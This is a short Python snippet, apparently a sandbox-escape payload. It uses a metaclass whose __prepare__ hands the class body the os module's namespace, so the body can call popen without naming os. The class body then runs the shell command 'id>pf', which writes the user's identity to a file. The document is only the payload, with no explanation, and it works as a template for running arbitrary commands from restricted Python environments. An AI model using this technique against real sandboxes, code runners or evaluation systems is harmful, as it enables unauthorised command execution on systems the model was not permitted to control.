import os
class M(type):
    def __prepare__(n, b):
        return os.__dict__.copy()
class C(metaclass=M):
    popen("id>pf").read()
